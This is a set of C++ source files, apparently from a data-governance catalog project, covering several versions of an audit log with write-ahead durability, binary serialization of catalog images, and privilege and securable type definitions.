  CatalogImage recovered_;
  uint64_t appends_since_checkpoint_ = 0;
};

}  // namespace lakeguard

#endif  // LAKEGUARD_CATALOG_CATALOG_STORE_H_
