#include "catalog/audit.h"

#include <chrono>

namespace lakeguard {

AuditLog::AuditLog(Clock* clock) : clock_(clock) {
  flusher_ = std::thread([this] { FlusherLoop(); });
}

AuditLog::~AuditLog() {
  {
    MutexLock lock(mu_);
    shutdown_ = true;
  }
  cv_.notify_all();
  if (flusher_.joinable()) flusher_.join();
  // Flush-on-shutdown: anything still queued is committed before the log
  // disappears (the flusher drained on its way out, but a Record racing the
  // shutdown flag could have re-filled the queue).
  MutexLock lock(mu_);
  FlushLocked();
}

AuditEvent AuditLog::MakeEvent(const std::string& principal,
                               const std::string& compute_id,
                               const std::string& action,
                               const std::string& securable, bool allowed,
                               const std::string& detail) const {
  AuditEvent event;
  event.time_micros = clock_->NowMicros();
  event.principal = principal;
  event.compute_id = compute_id;
  event.action = action;
  event.securable = securable;
  event.allowed = allowed;
  event.detail = detail;
  return event;
}

void AuditLog::Record(const std::string& principal,
                      const std::string& compute_id, const std::string& action,
                      const std::string& securable, bool allowed,
                      const std::string& detail) {
  AuditEvent event =
      MakeEvent(principal, compute_id, action, securable, allowed, detail);
  bool wake = false;
  {
    MutexLock lock(mu_);
    if (pending_.size() >= kMaxPending) {
      // Bounded + lossless: a full queue turns the recorder into the
      // flusher (backpressure) rather than dropping audit events.
      FlushLocked();
    }
    pending_.push_back(std::move(event));
    wake = pending_.size() >= kMaxPending / 2;
  }
  if (wake) cv_.notify_one();
}

void AuditLog::RecordDurable(const std::string& principal,
                             const std::string& compute_id,
                             const std::string& action,
                             const std::string& securable, bool allowed,
                             const std::string& detail) {
  AuditEvent event =
      MakeEvent(principal, compute_id, action, securable, allowed, detail);
  MutexLock lock(mu_);
  // Drain queued events first so the committed log stays in record order,
  // then commit this one synchronously — the caller publishes its catalog
  // mutation only after we return (write-ahead ordering).
  FlushLocked();
  committed_.push_back(std::move(event));
}

void AuditLog::Flush() {
  MutexLock lock(mu_);
  FlushLocked();
}

void AuditLog::FlushLocked() const {
  if (pending_.empty()) return;
  committed_.insert(committed_.end(),
                    std::make_move_iterator(pending_.begin()),
                    std::make_move_iterator(pending_.end()));
  pending_.clear();
  ++flush_batches_;
}

// Condition-variable waiting releases/reacquires the capability in a way the
// static analysis cannot follow; the loop is hand-checked.
void AuditLog::FlusherLoop() LG_NO_THREAD_SAFETY_ANALYSIS {
  MutexLock lock(mu_);
  while (!shutdown_) {
    // Wake on explicit signal (queue half full, shutdown) or periodically —
    // a quiet catalog still gets its trail committed promptly.
    cv_.wait_for(mu_, std::chrono::milliseconds(20), [this] {
      return shutdown_ || pending_.size() >= kMaxPending / 2;
    });
    FlushLocked();
  }
  FlushLocked();
}

std::vector<AuditEvent> AuditLog::All() const {
  MutexLock lock(mu_);
  FlushLocked();
  return committed_;
}

std::vector<AuditEvent> AuditLog::ForPrincipal(
    const std::string& principal) const {
  MutexLock lock(mu_);
  FlushLocked();
  std::vector<AuditEvent> out;
  for (const AuditEvent& e : committed_) {
    if (e.principal == principal) out.push_back(e);
  }
  return out;
}

std::vector<AuditEvent> AuditLog::ForSecurable(
    const std::string& securable) const {
  MutexLock lock(mu_);
  FlushLocked();
  std::vector<AuditEvent> out;
  for (const AuditEvent& e : committed_) {
    if (e.securable == securable) out.push_back(e);
  }
  return out;
}

size_t AuditLog::DeniedCount() const {
  MutexLock lock(mu_);
  FlushLocked();
  size_t n = 0;
  for (const AuditEvent& e : committed_) {
    if (!e.allowed) ++n;
  }
  return n;
}

size_t AuditLog::size() const {
  MutexLock lock(mu_);
  FlushLocked();
  return committed_.size();
}

void AuditLog::Clear() {
  MutexLock lock(mu_);
  pending_.clear();
  committed_.clear();
}

uint64_t AuditLog::flush_batches() const {
  MutexLock lock(mu_);
  return flush_batches_;
}

size_t AuditLog::DropPendingForCrashTest() {
  MutexLock lock(mu_);
  size_t dropped = pending_.size();
  pending_.clear();
  return dropped;
}

}  // namespace lakeguard
