#include "catalog/audit.h"

namespace lakeguard {

void AuditLog::Record(const std::string& principal,
                      const std::string& compute_id, const std::string& action,
                      const std::string& securable, bool allowed,
                      const std::string& detail) {
  AuditEvent event;
  event.time_micros = clock_->NowMicros();
  event.principal = principal;
  event.compute_id = compute_id;
  event.action = action;
  event.securable = securable;
  event.allowed = allowed;
  event.detail = detail;
  std::lock_guard<std::mutex> lock(mu_);
  events_.push_back(std::move(event));
}

std::vector<AuditEvent> AuditLog::All() const {
  std::lock_guard<std::mutex> lock(mu_);
  return events_;
}

std::vector<AuditEvent> AuditLog::ForPrincipal(
    const std::string& principal) const {
  std::lock_guard<std::mutex> lock(mu_);
  std::vector<AuditEvent> out;
  for (const AuditEvent& e : events_) {
    if (e.principal == principal) out.push_back(e);
  }
  return out;
}

std::vector<AuditEvent> AuditLog::ForSecurable(
    const std::string& securable) const {
  std::lock_guard<std::mutex> lock(mu_);
  std::vector<AuditEvent> out;
  for (const AuditEvent& e : events_) {
    if (e.securable == securable) out.push_back(e);
  }
  return out;
}

size_t AuditLog::DeniedCount() const {
  std::lock_guard<std::mutex> lock(mu_);
  size_t n = 0;
  for (const AuditEvent& e : events_) {
    if (!e.allowed) ++n;
  }
  return n;
}

size_t AuditLog::size() const {
  std::lock_guard<std::mutex> lock(mu_);
  return events_.size();
}

void AuditLog::Clear() {
  std::lock_guard<std::mutex> lock(mu_);
  events_.clear();
}

}  // namespace lakeguard
