#include "catalog/audit.h"

#include <algorithm>
#include <chrono>
#include <set>

#include "common/fault.h"

namespace lakeguard {

std::vector<uint8_t> EncodeAuditEvent(const AuditEvent& event) {
  ByteWriter writer;
  writer.PutTaggedVarint(1, event.sequence);
  writer.PutTaggedZigzag(2, event.time_micros);
  writer.PutTaggedString(3, event.principal);
  writer.PutTaggedString(4, event.compute_id);
  writer.PutTaggedString(5, event.action);
  writer.PutTaggedString(6, event.securable);
  writer.PutTaggedBool(7, event.allowed);
  writer.PutTaggedString(8, event.detail);
  return writer.Release();
}

Result<AuditEvent> DecodeAuditEvent(const std::vector<uint8_t>& bytes) {
  AuditEvent event;
  ByteReader reader(bytes);
  while (!reader.AtEnd()) {
    LG_ASSIGN_OR_RETURN(auto tag, reader.ReadTag());
    switch (tag.field) {
      case 1: {
        LG_ASSIGN_OR_RETURN(event.sequence, reader.ReadVarint());
        break;
      }
      case 2: {
        LG_ASSIGN_OR_RETURN(event.time_micros, reader.ReadZigzag());
        break;
      }
      case 3: {
        LG_ASSIGN_OR_RETURN(event.principal, reader.ReadString());
        break;
      }
      case 4: {
        LG_ASSIGN_OR_RETURN(event.compute_id, reader.ReadString());
        break;
      }
      case 5: {
        LG_ASSIGN_OR_RETURN(event.action, reader.ReadString());
        break;
      }
      case 6: {
        LG_ASSIGN_OR_RETURN(event.securable, reader.ReadString());
        break;
      }
      case 7: {
        LG_ASSIGN_OR_RETURN(event.allowed, reader.ReadBool());
        break;
      }
      case 8: {
        LG_ASSIGN_OR_RETURN(event.detail, reader.ReadString());
        break;
      }
      default:
        LG_RETURN_IF_ERROR(reader.SkipValue(tag.type));
    }
  }
  if (event.sequence == 0) {
    return Status::DataLoss("audit event without a sequence number");
  }
  return event;
}

AuditLog::AuditLog(Clock* clock) : clock_(clock) {
  flusher_ = std::thread([this] { FlusherLoop(); });
}

AuditLog::~AuditLog() { (void)Shutdown(); }

Status AuditLog::AttachDurability(
    DurableLog* wal, const std::vector<ReplayedRecord>& replayed) {
  MutexLock lock(mu_);
  std::set<uint64_t> seen;
  for (const ReplayedRecord& record : replayed) {
    Result<AuditEvent> decoded = DecodeAuditEvent(record.payload);
    if (!decoded.ok()) {
      return decoded.status().WithContext("replaying audit WAL record at LSN " +
                                          std::to_string(record.lsn));
    }
    AuditEvent event = std::move(decoded).value();
    if (event.sequence != record.stamp) {
      return Status::DataLoss(
          "audit WAL record stamp " + std::to_string(record.stamp) +
          " disagrees with its event sequence " +
          std::to_string(event.sequence));
    }
    // Dedup: an append that hit disk whose Sync was never acknowledged is
    // retried by the flusher, producing an identical twin on disk.
    if (!seen.insert(event.sequence).second) continue;
    next_sequence_ = std::max(next_sequence_, event.sequence + 1);
    committed_.push_back(std::move(event));
  }
  wal_ = wal;
  return Status::OK();
}

AuditEvent AuditLog::MakeEvent(const std::string& principal,
                               const std::string& compute_id,
                               const std::string& action,
                               const std::string& securable, bool allowed,
                               const std::string& detail) const {
  AuditEvent event;
  event.time_micros = clock_->NowMicros();
  event.principal = principal;
  event.compute_id = compute_id;
  event.action = action;
  event.securable = securable;
  event.allowed = allowed;
  event.detail = detail;
  return event;
}

void AuditLog::Record(const std::string& principal,
                      const std::string& compute_id, const std::string& action,
                      const std::string& securable, bool allowed,
                      const std::string& detail) {
  AuditEvent event =
      MakeEvent(principal, compute_id, action, securable, allowed, detail);
  bool wake = false;
  {
    MutexLock lock(mu_);
    event.sequence = next_sequence_++;
    if (pending_.size() >= kMaxPending) {
      // Bounded + lossless: a full queue turns the recorder into the
      // flusher (backpressure) rather than dropping audit events. A flush
      // failure leaves the events pending for retry — still no drop.
      (void)FlushLocked();
    }
    pending_.push_back(std::move(event));
    wake = pending_.size() >= kMaxPending / 2;
  }
  if (wake) cv_.notify_one();
}

Status AuditLog::RecordDurable(const std::string& principal,
                               const std::string& compute_id,
                               const std::string& action,
                               const std::string& securable, bool allowed,
                               const std::string& detail) {
  AuditEvent event =
      MakeEvent(principal, compute_id, action, securable, allowed, detail);
  MutexLock lock(mu_);
  // Queue this event behind anything already pending (committed log stays in
  // record order) and drain the whole batch durably. The caller publishes
  // its catalog mutation only after we return OK (write-ahead ordering).
  event.sequence = next_sequence_++;
  pending_.push_back(std::move(event));
  return FlushLocked();
}

Status AuditLog::Flush() {
  MutexLock lock(mu_);
  return FlushLocked();
}

Status AuditLog::FlushLocked() const {
  if (pending_.empty()) return Status::OK();
  if (wal_ != nullptr) {
    // Group commit: one WAL append per event, ONE fsync for the batch. Only
    // a fully synced batch counts as committed; on any failure every event
    // stays pending and the whole batch is retried (replay dedups by
    // sequence the records whose append landed before the failure).
    for (const AuditEvent& event : pending_) {
      if (auto crash = fault::CheckCrash("audit.flush")) {
        (void)crash;
        return fault::Death("audit.flush");
      }
      LG_RETURN_IF_ERROR(
          wal_->Append(event.sequence, EncodeAuditEvent(event)).status());
    }
    LG_RETURN_IF_ERROR(wal_->Sync());
  }
  committed_.insert(committed_.end(),
                    std::make_move_iterator(pending_.begin()),
                    std::make_move_iterator(pending_.end()));
  pending_.clear();
  ++flush_batches_;
  return Status::OK();
}

// Condition-variable waiting releases/reacquires the capability in a way the
// static analysis cannot follow; the loop is hand-checked.
void AuditLog::FlusherLoop() LG_NO_THREAD_SAFETY_ANALYSIS {
  MutexLock lock(mu_);
  while (!shutdown_) {
    // Wake on explicit signal (queue half full, shutdown) or periodically —
    // a quiet catalog still gets its trail committed promptly. Failed
    // flushes leave events pending; the next tick retries.
    cv_.wait_for(mu_, std::chrono::milliseconds(20), [this] {
      return shutdown_ || pending_.size() >= kMaxPending / 2;
    });
    (void)FlushLocked();
  }
}

Status AuditLog::Shutdown() {
  if (!flusher_stopped_) {
    {
      MutexLock lock(mu_);
      shutdown_ = true;
    }
    cv_.notify_all();
    if (flusher_.joinable()) flusher_.join();
    flusher_stopped_ = true;
  }
  // Deterministic drain: everything recorded before this call is committed
  // (or reported as a typed error) before we return — never a silent
  // best-effort drop on teardown.
  MutexLock lock(mu_);
  return FlushLocked();
}

std::vector<AuditEvent> AuditLog::All() const {
  MutexLock lock(mu_);
  (void)FlushLocked();
  return committed_;
}

std::vector<AuditEvent> AuditLog::ForPrincipal(
    const std::string& principal) const {
  MutexLock lock(mu_);
  (void)FlushLocked();
  std::vector<AuditEvent> out;
  for (const AuditEvent& e : committed_) {
    if (e.principal == principal) out.push_back(e);
  }
  return out;
}

std::vector<AuditEvent> AuditLog::ForSecurable(
    const std::string& securable) const {
  MutexLock lock(mu_);
  (void)FlushLocked();
  std::vector<AuditEvent> out;
  for (const AuditEvent& e : committed_) {
    if (e.securable == securable) out.push_back(e);
  }
  return out;
}

size_t AuditLog::DeniedCount() const {
  MutexLock lock(mu_);
  (void)FlushLocked();
  size_t n = 0;
  for (const AuditEvent& e : committed_) {
    if (!e.allowed) ++n;
  }
  return n;
}

size_t AuditLog::size() const {
  MutexLock lock(mu_);
  (void)FlushLocked();
  return committed_.size();
}

void AuditLog::Clear() {
  MutexLock lock(mu_);
  pending_.clear();
  committed_.clear();
}

uint64_t AuditLog::flush_batches() const {
  MutexLock lock(mu_);
  return flush_batches_;
}

size_t AuditLog::DropPendingForCrashTest() {
  MutexLock lock(mu_);
  size_t dropped = pending_.size();
  pending_.clear();
  return dropped;
}

}  // namespace lakeguard
