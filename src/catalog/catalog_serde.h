#ifndef LAKEGUARD_CATALOG_CATALOG_SERDE_H_
#define LAKEGUARD_CATALOG_CATALOG_SERDE_H_

#include <cstdint>
#include <map>
#include <string>
#include <vector>

#include "catalog/securable.h"
#include "common/serde.h"
#include "common/status.h"

namespace lakeguard {

/// One grant in a serializable catalog image.
struct GrantRecord {
  std::string principal;
  Privilege privilege = Privilege::kSelect;
};

/// Serializable mirror of the catalog's full governance state. Durability is
/// physical state-shipping: every published epoch writes the complete image
/// to the WAL (catalog mutations are control-plane rare and the image is
/// small), so recovery is "decode latest image" with no logical-replay
/// interpreter to drift from the real mutation code.
struct CatalogImage {
  uint64_t epoch = 0;
  std::vector<std::string> admins;
  std::map<std::string, std::string> catalogs;  // name -> owner
  std::map<std::string, std::string> schemas;   // "cat.schema" -> owner
  std::map<std::string, TableInfo> tables;
  std::map<std::string, ViewInfo> views;
  std::map<std::string, FunctionInfo> functions;
  std::map<std::string, VolumeInfo> volumes;
  std::map<std::string, std::vector<GrantRecord>> grants;
  std::map<std::string, std::string> owners;  // securable -> owner
};

/// Encodes `image` with the repo's tagged binary serde (unknown fields are
/// skippable, so images survive forward schema evolution).
std::vector<uint8_t> EncodeCatalogImage(const CatalogImage& image);

/// Decodes an image; any truncation or malformed field is a typed error
/// (`kDataLoss` for truncation), never a partially populated image.
Result<CatalogImage> DecodeCatalogImage(const std::vector<uint8_t>& bytes);

}  // namespace lakeguard

#endif  // LAKEGUARD_CATALOG_CATALOG_SERDE_H_
