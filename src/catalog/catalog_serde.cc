#include "catalog/catalog_serde.h"

#include <utility>

#include "columnar/ipc.h"
#include "expr/expr_serde.h"
#include "udf/bytecode.h"

namespace lakeguard {

namespace {

// Field numbers. Images must remain decodable across schema evolution, so
// numbers are never reused — append only.
enum ImageField : uint32_t {
  kEpoch = 1,
  kAdmin = 2,
  kCatalogEntry = 3,
  kSchemaEntry = 4,
  kTableEntry = 5,
  kViewEntry = 6,
  kFunctionEntry = 7,
  kVolumeEntry = 8,
  kGrantSet = 9,
  kOwnerEntry = 10,
};

void EncodePair(uint32_t field, const std::string& name,
                const std::string& owner, ByteWriter* writer) {
  ByteWriter nested;
  nested.PutTaggedString(1, name);
  nested.PutTaggedString(2, owner);
  writer->PutTaggedMessage(field, nested);
}

Result<std::pair<std::string, std::string>> DecodePair(ByteReader* reader) {
  std::pair<std::string, std::string> out;
  while (!reader->AtEnd()) {
    LG_ASSIGN_OR_RETURN(auto tag, reader->ReadTag());
    switch (tag.field) {
      case 1: {
        LG_ASSIGN_OR_RETURN(out.first, reader->ReadString());
        break;
      }
      case 2: {
        LG_ASSIGN_OR_RETURN(out.second, reader->ReadString());
        break;
      }
      default:
        LG_RETURN_IF_ERROR(reader->SkipValue(tag.type));
    }
  }
  return out;
}

void EncodeExprField(uint32_t field, const ExprPtr& expr, ByteWriter* writer) {
  ByteWriter nested;
  SerializeExpr(expr, &nested);
  writer->PutTaggedMessage(field, nested);
}

Result<ExprPtr> DecodeExprField(ByteReader* reader) {
  LG_ASSIGN_OR_RETURN(ByteReader sub, reader->ReadMessage());
  return DeserializeExpr(&sub);
}

void EncodeMask(uint32_t field, const ColumnMaskPolicy& mask,
                ByteWriter* writer) {
  ByteWriter nested;
  nested.PutTaggedString(1, mask.column);
  EncodeExprField(2, mask.mask_expr, &nested);
  for (const std::string& group : mask.exempt_groups) {
    nested.PutTaggedString(3, group);
  }
  writer->PutTaggedMessage(field, nested);
}

Result<ColumnMaskPolicy> DecodeMask(ByteReader* reader) {
  ColumnMaskPolicy mask;
  while (!reader->AtEnd()) {
    LG_ASSIGN_OR_RETURN(auto tag, reader->ReadTag());
    switch (tag.field) {
      case 1: {
        LG_ASSIGN_OR_RETURN(mask.column, reader->ReadString());
        break;
      }
      case 2: {
        LG_ASSIGN_OR_RETURN(mask.mask_expr, DecodeExprField(reader));
        break;
      }
      case 3: {
        LG_ASSIGN_OR_RETURN(std::string group, reader->ReadString());
        mask.exempt_groups.push_back(std::move(group));
        break;
      }
      default:
        LG_RETURN_IF_ERROR(reader->SkipValue(tag.type));
    }
  }
  if (mask.mask_expr == nullptr) {
    return Status::DataLoss("column mask without a mask expression");
  }
  return mask;
}

void EncodeTable(const TableInfo& table, ByteWriter* writer) {
  ByteWriter nested;
  nested.PutTaggedString(1, table.full_name);
  nested.PutTaggedString(2, table.owner);
  nested.PutTaggedString(3, table.storage_root);
  ByteWriter schema;
  ipc::SerializeSchema(table.schema, &schema);
  nested.PutTaggedMessage(4, schema);
  if (table.row_filter.has_value()) {
    EncodeExprField(5, table.row_filter->predicate, &nested);
  }
  for (const ColumnMaskPolicy& mask : table.column_masks) {
    EncodeMask(6, mask, &nested);
  }
  writer->PutTaggedMessage(kTableEntry, nested);
}

Result<TableInfo> DecodeTable(ByteReader* reader) {
  TableInfo table;
  while (!reader->AtEnd()) {
    LG_ASSIGN_OR_RETURN(auto tag, reader->ReadTag());
    switch (tag.field) {
      case 1: {
        LG_ASSIGN_OR_RETURN(table.full_name, reader->ReadString());
        break;
      }
      case 2: {
        LG_ASSIGN_OR_RETURN(table.owner, reader->ReadString());
        break;
      }
      case 3: {
        LG_ASSIGN_OR_RETURN(table.storage_root, reader->ReadString());
        break;
      }
      case 4: {
        LG_ASSIGN_OR_RETURN(ByteReader sub, reader->ReadMessage());
        LG_ASSIGN_OR_RETURN(table.schema, ipc::DeserializeSchema(&sub));
        break;
      }
      case 5: {
        RowFilterPolicy policy;
        LG_ASSIGN_OR_RETURN(policy.predicate, DecodeExprField(reader));
        table.row_filter = std::move(policy);
        break;
      }
      case 6: {
        LG_ASSIGN_OR_RETURN(ByteReader sub, reader->ReadMessage());
        LG_ASSIGN_OR_RETURN(ColumnMaskPolicy mask, DecodeMask(&sub));
        table.column_masks.push_back(std::move(mask));
        break;
      }
      default:
        LG_RETURN_IF_ERROR(reader->SkipValue(tag.type));
    }
  }
  return table;
}

void EncodeView(const ViewInfo& view, ByteWriter* writer) {
  ByteWriter nested;
  nested.PutTaggedString(1, view.full_name);
  nested.PutTaggedString(2, view.owner);
  nested.PutTaggedString(3, view.sql_text);
  nested.PutTaggedBool(4, view.materialized);
  nested.PutTaggedString(5, view.storage_root);
  nested.PutTaggedBool(6, view.materialization_fresh);
  ByteWriter schema;
  ipc::SerializeSchema(view.materialized_schema, &schema);
  nested.PutTaggedMessage(7, schema);
  writer->PutTaggedMessage(kViewEntry, nested);
}

Result<ViewInfo> DecodeView(ByteReader* reader) {
  ViewInfo view;
  while (!reader->AtEnd()) {
    LG_ASSIGN_OR_RETURN(auto tag, reader->ReadTag());
    switch (tag.field) {
      case 1: {
        LG_ASSIGN_OR_RETURN(view.full_name, reader->ReadString());
        break;
      }
      case 2: {
        LG_ASSIGN_OR_RETURN(view.owner, reader->ReadString());
        break;
      }
      case 3: {
        LG_ASSIGN_OR_RETURN(view.sql_text, reader->ReadString());
        break;
      }
      case 4: {
        LG_ASSIGN_OR_RETURN(view.materialized, reader->ReadBool());
        break;
      }
      case 5: {
        LG_ASSIGN_OR_RETURN(view.storage_root, reader->ReadString());
        break;
      }
      case 6: {
        LG_ASSIGN_OR_RETURN(view.materialization_fresh, reader->ReadBool());
        break;
      }
      case 7: {
        LG_ASSIGN_OR_RETURN(ByteReader sub, reader->ReadMessage());
        LG_ASSIGN_OR_RETURN(view.materialized_schema,
                            ipc::DeserializeSchema(&sub));
        break;
      }
      default:
        LG_RETURN_IF_ERROR(reader->SkipValue(tag.type));
    }
  }
  return view;
}

void EncodeFunction(const FunctionInfo& fn, ByteWriter* writer) {
  ByteWriter nested;
  nested.PutTaggedString(1, fn.full_name);
  nested.PutTaggedString(2, fn.owner);
  nested.PutTaggedVarint(3, static_cast<uint64_t>(fn.return_type));
  nested.PutTaggedVarint(4, fn.num_args);
  ByteWriter body;
  SerializeBytecode(fn.body, &body);
  nested.PutTaggedMessage(5, body);
  for (const std::string& host : fn.allowed_egress) {
    nested.PutTaggedString(6, host);
  }
  writer->PutTaggedMessage(kFunctionEntry, nested);
}

Result<FunctionInfo> DecodeFunction(ByteReader* reader) {
  FunctionInfo fn;
  while (!reader->AtEnd()) {
    LG_ASSIGN_OR_RETURN(auto tag, reader->ReadTag());
    switch (tag.field) {
      case 1: {
        LG_ASSIGN_OR_RETURN(fn.full_name, reader->ReadString());
        break;
      }
      case 2: {
        LG_ASSIGN_OR_RETURN(fn.owner, reader->ReadString());
        break;
      }
      case 3: {
        LG_ASSIGN_OR_RETURN(uint64_t kind, reader->ReadVarint());
        fn.return_type = static_cast<TypeKind>(kind);
        break;
      }
      case 4: {
        LG_ASSIGN_OR_RETURN(uint64_t n, reader->ReadVarint());
        fn.num_args = static_cast<uint32_t>(n);
        break;
      }
      case 5: {
        LG_ASSIGN_OR_RETURN(ByteReader sub, reader->ReadMessage());
        LG_ASSIGN_OR_RETURN(fn.body, DeserializeBytecode(&sub));
        break;
      }
      case 6: {
        LG_ASSIGN_OR_RETURN(std::string host, reader->ReadString());
        fn.allowed_egress.push_back(std::move(host));
        break;
      }
      default:
        LG_RETURN_IF_ERROR(reader->SkipValue(tag.type));
    }
  }
  return fn;
}

void EncodeVolume(const VolumeInfo& volume, ByteWriter* writer) {
  ByteWriter nested;
  nested.PutTaggedString(1, volume.full_name);
  nested.PutTaggedString(2, volume.owner);
  nested.PutTaggedString(3, volume.storage_prefix);
  writer->PutTaggedMessage(kVolumeEntry, nested);
}

Result<VolumeInfo> DecodeVolume(ByteReader* reader) {
  VolumeInfo volume;
  while (!reader->AtEnd()) {
    LG_ASSIGN_OR_RETURN(auto tag, reader->ReadTag());
    switch (tag.field) {
      case 1: {
        LG_ASSIGN_OR_RETURN(volume.full_name, reader->ReadString());
        break;
      }
      case 2: {
        LG_ASSIGN_OR_RETURN(volume.owner, reader->ReadString());
        break;
      }
      case 3: {
        LG_ASSIGN_OR_RETURN(volume.storage_prefix, reader->ReadString());
        break;
      }
      default:
        LG_RETURN_IF_ERROR(reader->SkipValue(tag.type));
    }
  }
  return volume;
}

void EncodeGrantSet(const std::string& securable,
                    const std::vector<GrantRecord>& grants,
                    ByteWriter* writer) {
  ByteWriter nested;
  nested.PutTaggedString(1, securable);
  for (const GrantRecord& grant : grants) {
    ByteWriter entry;
    entry.PutTaggedString(1, grant.principal);
    entry.PutTaggedVarint(2, static_cast<uint64_t>(grant.privilege));
    nested.PutTaggedMessage(2, entry);
  }
  writer->PutTaggedMessage(kGrantSet, nested);
}

Result<std::pair<std::string, std::vector<GrantRecord>>> DecodeGrantSet(
    ByteReader* reader) {
  std::pair<std::string, std::vector<GrantRecord>> out;
  while (!reader->AtEnd()) {
    LG_ASSIGN_OR_RETURN(auto tag, reader->ReadTag());
    switch (tag.field) {
      case 1: {
        LG_ASSIGN_OR_RETURN(out.first, reader->ReadString());
        break;
      }
      case 2: {
        LG_ASSIGN_OR_RETURN(ByteReader sub, reader->ReadMessage());
        GrantRecord grant;
        while (!sub.AtEnd()) {
          LG_ASSIGN_OR_RETURN(auto entry_tag, sub.ReadTag());
          switch (entry_tag.field) {
            case 1: {
              LG_ASSIGN_OR_RETURN(grant.principal, sub.ReadString());
              break;
            }
            case 2: {
              LG_ASSIGN_OR_RETURN(uint64_t p, sub.ReadVarint());
              if (p > static_cast<uint64_t>(Privilege::kWriteVolume)) {
                return Status::DataLoss("grant record with unknown privilege " +
                                        std::to_string(p));
              }
              grant.privilege = static_cast<Privilege>(p);
              break;
            }
            default:
              LG_RETURN_IF_ERROR(sub.SkipValue(entry_tag.type));
          }
        }
        out.second.push_back(std::move(grant));
        break;
      }
      default:
        LG_RETURN_IF_ERROR(reader->SkipValue(tag.type));
    }
  }
  return out;
}

}  // namespace

std::vector<uint8_t> EncodeCatalogImage(const CatalogImage& image) {
  ByteWriter writer;
  writer.PutTaggedVarint(kEpoch, image.epoch);
  for (const std::string& admin : image.admins) {
    writer.PutTaggedString(kAdmin, admin);
  }
  for (const auto& [name, owner] : image.catalogs) {
    EncodePair(kCatalogEntry, name, owner, &writer);
  }
  for (const auto& [name, owner] : image.schemas) {
    EncodePair(kSchemaEntry, name, owner, &writer);
  }
  for (const auto& [name, table] : image.tables) EncodeTable(table, &writer);
  for (const auto& [name, view] : image.views) EncodeView(view, &writer);
  for (const auto& [name, fn] : image.functions) EncodeFunction(fn, &writer);
  for (const auto& [name, volume] : image.volumes) {
    EncodeVolume(volume, &writer);
  }
  for (const auto& [securable, grants] : image.grants) {
    EncodeGrantSet(securable, grants, &writer);
  }
  for (const auto& [securable, owner] : image.owners) {
    EncodePair(kOwnerEntry, securable, owner, &writer);
  }
  return writer.Release();
}

Result<CatalogImage> DecodeCatalogImage(const std::vector<uint8_t>& bytes) {
  CatalogImage image;
  ByteReader reader(bytes);
  while (!reader.AtEnd()) {
    LG_ASSIGN_OR_RETURN(auto tag, reader.ReadTag());
    switch (tag.field) {
      case kEpoch: {
        LG_ASSIGN_OR_RETURN(image.epoch, reader.ReadVarint());
        break;
      }
      case kAdmin: {
        LG_ASSIGN_OR_RETURN(std::string admin, reader.ReadString());
        image.admins.push_back(std::move(admin));
        break;
      }
      case kCatalogEntry: {
        LG_ASSIGN_OR_RETURN(ByteReader sub, reader.ReadMessage());
        LG_ASSIGN_OR_RETURN(auto pair, DecodePair(&sub));
        image.catalogs.insert(std::move(pair));
        break;
      }
      case kSchemaEntry: {
        LG_ASSIGN_OR_RETURN(ByteReader sub, reader.ReadMessage());
        LG_ASSIGN_OR_RETURN(auto pair, DecodePair(&sub));
        image.schemas.insert(std::move(pair));
        break;
      }
      case kTableEntry: {
        LG_ASSIGN_OR_RETURN(ByteReader sub, reader.ReadMessage());
        LG_ASSIGN_OR_RETURN(TableInfo table, DecodeTable(&sub));
        std::string key = table.full_name;
        image.tables.emplace(std::move(key), std::move(table));
        break;
      }
      case kViewEntry: {
        LG_ASSIGN_OR_RETURN(ByteReader sub, reader.ReadMessage());
        LG_ASSIGN_OR_RETURN(ViewInfo view, DecodeView(&sub));
        std::string key = view.full_name;
        image.views.emplace(std::move(key), std::move(view));
        break;
      }
      case kFunctionEntry: {
        LG_ASSIGN_OR_RETURN(ByteReader sub, reader.ReadMessage());
        LG_ASSIGN_OR_RETURN(FunctionInfo fn, DecodeFunction(&sub));
        std::string key = fn.full_name;
        image.functions.emplace(std::move(key), std::move(fn));
        break;
      }
      case kVolumeEntry: {
        LG_ASSIGN_OR_RETURN(ByteReader sub, reader.ReadMessage());
        LG_ASSIGN_OR_RETURN(VolumeInfo volume, DecodeVolume(&sub));
        std::string key = volume.full_name;
        image.volumes.emplace(std::move(key), std::move(volume));
        break;
      }
      case kGrantSet: {
        LG_ASSIGN_OR_RETURN(ByteReader sub, reader.ReadMessage());
        LG_ASSIGN_OR_RETURN(auto grant_set, DecodeGrantSet(&sub));
        image.grants.emplace(std::move(grant_set.first),
                             std::move(grant_set.second));
        break;
      }
      case kOwnerEntry: {
        LG_ASSIGN_OR_RETURN(ByteReader sub, reader.ReadMessage());
        LG_ASSIGN_OR_RETURN(auto pair, DecodePair(&sub));
        image.owners.insert(std::move(pair));
        break;
      }
      default:
        LG_RETURN_IF_ERROR(reader.SkipValue(tag.type));
    }
  }
  return image;
}

}  // namespace lakeguard
