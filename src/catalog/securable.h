#ifndef LAKEGUARD_CATALOG_SECURABLE_H_
#define LAKEGUARD_CATALOG_SECURABLE_H_

#include <optional>
#include <string>
#include <vector>

#include "columnar/types.h"
#include "expr/expr.h"
#include "udf/bytecode.h"

namespace lakeguard {

/// Kinds of governed objects. Unity Catalog governs far more than tables
/// (§3.1): views (incl. materialized), functions (cataloged UDFs) and
/// storage volumes are first-class securables here too.
enum class SecurableType : uint8_t {
  kCatalog = 0,
  kSchema = 1,
  kTable = 2,
  kView = 3,
  kFunction = 4,
  kVolume = 5,
};

const char* SecurableTypeName(SecurableType type);

/// Privileges grantable on securables.
enum class Privilege : uint8_t {
  kUseCatalog = 0,
  kUseSchema = 1,
  kSelect = 2,
  kModify = 3,
  kExecute = 4,   // run a cataloged function
  kCreate = 5,    // create child objects
  kManage = 6,    // set policies, grant/revoke
  kReadVolume = 7,
  kWriteVolume = 8,
};

const char* PrivilegeName(Privilege p);
Result<Privilege> PrivilegeFromName(const std::string& name);

/// A row-level filter policy: rows are visible iff `predicate` evaluates to
/// true for the querying user. The predicate may use CURRENT_USER() and
/// IS_ACCOUNT_GROUP_MEMBER() (§2.3's dynamic FGAC).
struct RowFilterPolicy {
  ExprPtr predicate;
};

/// A column mask policy: reads of `column` see `mask_expr` (which may
/// reference the column itself) instead of the raw value, unless the user is
/// in an exempt group.
struct ColumnMaskPolicy {
  std::string column;
  ExprPtr mask_expr;
  std::vector<std::string> exempt_groups;
};

/// A governed table.
struct TableInfo {
  std::string full_name;  // "catalog.schema.table"
  std::string owner;
  std::string storage_root;
  Schema schema;
  std::optional<RowFilterPolicy> row_filter;
  std::vector<ColumnMaskPolicy> column_masks;

